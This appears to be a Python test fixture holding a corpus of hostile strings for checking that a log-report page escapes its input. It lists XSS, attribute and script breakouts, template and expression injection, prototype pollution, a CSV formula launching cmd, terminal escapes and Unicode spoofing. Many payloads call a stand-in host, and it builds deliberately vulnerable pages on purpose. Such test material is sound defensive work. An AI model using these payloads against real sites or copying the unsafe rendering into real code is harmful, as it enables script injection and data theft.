"""Texts put into a log to make a report do something: run code, ask the network, mislead the eye."""

from __future__ import annotations

import html
import json
from dataclasses import dataclass

#: Requests go here; the domain never resolves.
HOST = "http://hit.invalid/"


@dataclass(frozen=True, slots=True)
class Payload:
    """A text, and the place in which a careless page would let it act ("" where it acts on the reader only)."""

    id: str
    text: str
    place: str


#: (place, text); § stands for the payload's own id, which it tells through __hit or asks HOST for.
_TEXTS = (
    # elements and event handlers
    ("html", "<script>__hit('§')</script>"),
    ("html", "<ScRiPt >__hit('§')</sCrIpT\n>"),
    ("html", "<img src=x onerror=__hit('§')>"),
    ("html", "<img/src=x\tonerror\n=\n__hit('§')//"),
    ("html", "<svg onload=__hit('§')>"),
    ("html", "<svg><script>__hit('§')</script></svg>"),
    ("html", "<svg><animate onbegin=__hit('§') attributeName=x dur=1s>"),
    ("html", "<svg><a xlink:href=\"javascript:__hit('§')\"><text y=20>run</text></a></svg>"),
    ("html", '<svg><image href="http://hit.invalid/§" /></svg>'),
    ("html", "<svg><use href=\"data:image/svg+xml,x#y\" /><foreignObject><img src=x onerror=__hit('§')>"),
    ("html", "<details open ontoggle=__hit('§')>"),
    ("html", "<input autofocus onfocus=__hit('§')>"),
    ("html", "<video><source onerror=__hit('§')></video>"),
    ("html", "<audio src=http://hit.invalid/§ autoplay>"),
    ("html", "<body onload=__hit('§')>"),
    ("html", "<p onmouseover=__hit('§') style=position:fixed;inset:0>loss</p>"),
    ("html", "<iframe srcdoc=\"<script>parent.__hit('§')</script>\"></iframe>"),
    ("html", "<iframe src=\"javascript:parent.__hit('§')\"></iframe>"),
    ("html", "<iframe src=http://hit.invalid/§></iframe>"),
    ("html", "<object data=http://hit.invalid/§></object>"),
    ("html", "<embed src=http://hit.invalid/§>"),
    ("html", "<link rel=stylesheet href=http://hit.invalid/§>"),
    ("html", "<style>@import 'http://hit.invalid/§';</style>"),
    ("html", "<meta http-equiv=refresh content='0;url=http://hit.invalid/§'>"),
    ("html", "<base href=http://hit.invalid/§/><img src=loss.png>"),
    ("html", "<form action=http://hit.invalid/§><button>Show the curves</button></form>"),
    ("html", "<img src=x onerror=alert('§')>"),
    ("html", "<svg onload=window.open('http://hit.invalid/§')>"),
    ("html", "<button onclick=__hit('§')>Copy</button>"),
    ("html", "<a href=\"javascript:__hit('§')\">train/loss</a>"),
    ("html", "<a href=http://hit.invalid/§>open in the browser</a>"),
    ("mutation", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=__hit('§')>"),
    ("html", "<math href=\"javascript:__hit('§')\">x</math><img src=x onerror=__hit('§')>"),
    ("html", "<noscript><p title=\"</noscript><img src=x onerror=__hit('§')>\">"),
    ("html", "<template><i></template><img src=x onerror=__hit('§')>"),
    ("html", "<![CDATA[ ]]><img src=x onerror=__hit('§')>"),
    ("html", "<?xml version='1.0'?><img src=x onerror=__hit('§')>"),
    ("html", "&#x3c;/p&#x3e;<img src=x onerror=&#95;_hit('§')>"),
    ("html", "<x onclick=__hit('§') tabindex=1 id=data>\u2028</x>"),
    ("html", "<script type=module>__hit('§')</script>"),
    ("html", "<img srcset='http://hit.invalid/§ 1x'>"),
    ("html", "<body background=http://hit.invalid/§>"),
    ("html", "<div style=\"background:url('http://hit.invalid/§')\">x</div>"),
    # out of an attribute, a title, a comment, a style sheet
    ("attribute", "\" onmouseover=__hit('§') x=\""),
    ("attribute", "\" autofocus tabindex=0 onfocus=__hit('§') \""),
    ("attribute", "\"><svg onload=__hit('§')>"),
    ("single", "' onmouseover=__hit('§') x='"),
    ("title", "</title><script>__hit('§')</script>"),
    ("comment", "--><img src=x onerror=__hit('§')><!--"),
    ("comment", "--!><img src=x onerror=__hit('§')>"),
    ("textarea", "</textarea></pre></code><img src=x onerror=__hit('§')>"),
    ("style", "</style><img src=x onerror=__hit('§')>"),
    ("style", '"} body{background:url(http://hit.invalid/§)} .x{content:"'),
    ("url", "javascript:__hit('§')"),
    ("url", " \x01java\tscript\n:__hit('§')"),
    ("url", "data:text/html,<script>location='http://hit.invalid/§'</script>"),
    # out of data in a script, into an expression or a template
    ("json", "</script><script>__hit('§')</script>"),
    ("json", "<!--<script>\u2028--></script><img src=x onerror=__hit('§')>"),
    ("string", "\";__hit('§');\""),
    ("escaped", "\\\";__hit('§');//"),
    ("remark", "\n*/__hit('§');/*"),
    ("backtick", "${__hit('§')}"),
    ("backtick", "`;__hit('§');`"),
    ("mustache", "{{__hit('§')}}"),
    ("mustache", "{{constructor.constructor(\"__hit('§')\")()}}"),
    ("expression", "__hit('§')"),
    ("expression", "datum.x, __hit('§'), event.view"),
    ("expression", "constructor.constructor('__hit(\"§\")')()"),
    ("expression", "(()=>{__hit('§')})()"),
    ("field", "x']; __hit('§'); datum['x"),
    ("merge", '{"__proto__": {"toString": "§"}}'),
    ("merge", '{"constructor": {"prototype": {"hit": "§"}}}'),
    # onto the reader or a later program
    ("", "__proto__"),
    ("", "constructor"),
    ("", "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {%raw%}"),
    ("", "run\u202egnp.exe\u202c"),
    ("", "\u2066lr\u2069 \u200bze\u200dro\u2060 \ufeff \u00adwidth"),
    ("", "\x1b[2J\x1b[31mFAILED\x1b[0m \x1b]8;;http://hit.invalid/\x07link\x1b]8;;\x07"),
    ("", "nul\x00middle \x07 \x08\x08\x08 \x7f \x9b31m"),
    ("", '=HYPERLINK("http://hit.invalid/","loss")+cmd|\' /C calc\'!A0'),
    ("", "[train](javascript:alert(1)) ![x](http://hit.invalid/x.png) <http://hit.invalid/>"),
    ("", "@everyone #1 GH-1 www.hit.invalid `code` **b** | a | b |"),
    ("", "loss\r\nHTTP/1.1 200 OK\r\n\r\n<h1>\u2029"),
    ("", "A" * 1500),
    ("", "e\u0301" + "\u0300" * 400),
    ("", "\U000e0001\U000e0061\U000e007f \u3164 \uffa0"),
    ("", "%s%n%x %00 ..%2f..%2fetc {0.__class__} {run!r}"),
    ("", "\udcff\ud800"),
)
PAYLOADS = tuple(Payload(f"p{i:02}", text.replace("§", f"p{i:02}"), place) for i, (place, text) in enumerate(_TEXTS))

#: How a careless page would print a text in each place.
_CARELESS = {
    "html": "<body>{t}\n<p>end</p>",
    "mutation": (
        "<body><script>const t = document.createElement('template'); t.innerHTML = {j};"
        "document.body.innerHTML = t.innerHTML;</script>"
    ),
    "attribute": '<body><i title="{t}">x</i>',
    "single": "<body><i title='{t}'>x</i>",
    "title": "<title>{t}</title>",
    "comment": "<body><!-- {t} -->",
    "textarea": "<body><textarea>{t}</textarea>",
    "style": '<style>.a {{ content: "{t}" }}</style><body>',
    "url": '<body><a href="{t}">x</a>',
    "json": '<script type="application/json">{{"n": {j}}}</script><body>',
    "string": '<script>var n = "{t}";</script><body>',
    "escaped": '<script>var n = "{e}";</script><body>',
    "remark": "<script>/* {t} */</script><body>",
    "backtick": "<script>var n = `{t}`;</script><body>",
    "mustache": "<script>{j}.replace(/{{{{(.*?)}}}}/g, (_, e) => new Function('return ' + e)())</script><body>",
    "expression": "<script>new Function('datum', 'event', 'return ' + {j})({{}}, {{}})</script><body>",
    "field": "<script>new Function('datum', \"let v = datum['\" + {j} + \"']\")({{}})</script><body>",
    "merge": (
        "<script>const merge = (a, b) => {{ for (const k in b) {{ if (typeof b[k] === 'object') merge(a[k], b[k]); "
        "else a[k] = b[k]; }} return a; }}; merge({{}}, JSON.parse({j})); const o = {{}};"
        "__hit(o.hit ?? o.toString)</script><body>"
    ),
}


def careless(p: Payload) -> str:
    """A document that lets the payload act."""
    quoted = json.dumps(p.text)
    quoted = quoted if p.place == "json" else quoted.replace("</", "<\\/")
    return "<!doctype html>" + _CARELESS[p.place].format(t=p.text, j=quoted, e=p.text.replace('"', '\\"'))


def careless_page(payloads: tuple[Payload, ...]) -> str:
    """One page that lets every payload act, each in a frame of its own."""
    frames = (f'<iframe srcdoc="{html.escape(careless(p))}"></iframe>' for p in payloads)
    return "<!doctype html><meta charset=utf-8><title>careless</title>" + "\n".join(frames)
